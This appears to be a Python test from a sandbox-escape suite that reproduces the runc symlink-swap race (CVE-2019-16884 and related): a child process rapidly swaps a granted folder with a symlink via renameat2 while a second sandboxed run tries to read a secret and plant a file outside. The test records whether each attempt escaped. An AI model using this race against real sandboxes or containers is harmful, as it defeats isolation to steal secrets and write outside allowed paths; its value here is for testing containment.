"""Swap a folder for a symbolic link while another sandbox that was granted it is being set up.

The grant is judged by where the path leads; if it leads elsewhere a millisecond later, what is mounted is
what nobody judged. Source: TOCTOU of CVE-2019-16884, CVE-2021-30465 and CVE-2023-27561 (runc).
"""

import ctypes
import os
import time

from attempt import PROJECT, works

WAYS = ("run",)


def outside(arena, way):
    folder = arena.project / "src" / "data"
    folder.mkdir(exist_ok=True)
    if arena.user:
        os.system(f"chown {arena.user}: {folder}")
    arena.facts(aim=str(arena.place / "outside"))
    process = arena.start([*arena.pypm, "run", *arena.inner("swapped_grant")], cwd=arena.project)
    shown = b""
    while b"@works" not in shown:
        shown += os.read(process.stdout.fileno(), 4096) or b"@works"
    leaked = written = False
    script = "cat src/data/secret; echo x > src/data/planted-by-swap"
    for _ in range(25):
        done = arena.host(
            [*arena.pypm, "run", "--read-only", "--allow-write", "src/data", "sh", "-c", script],
            cwd=arena.project,
        )
        leaked |= arena.token.encode() in done.stdout
        written |= (arena.place / "outside" / "planted-by-swap").exists()
    process.kill()
    process.wait()
    (arena.place / "outside" / "planted-by-swap").unlink(missing_ok=True)
    shown += b"@%s|reading outside|\n" % (b"escaped" if leaked else b"denied")
    shown += b"@%s|writing outside|\n@done||\n" % (b"escaped" if written else b"denied")
    return shown


def inside():
    from attempt import FACTS

    libc = ctypes.CDLL(None)
    folder, link = bytes(PROJECT / "src" / "data"), bytes(PROJECT / "src" / "link")
    os.symlink(FACTS["aim"], link)
    works("starting", lambda: True)
    end = time.monotonic() + 40
    try:
        while time.monotonic() < end:
            libc.renameat2(-100, folder, -100, link, 2)
            time.sleep(0.0005)
    finally:
        os.unlink(link)
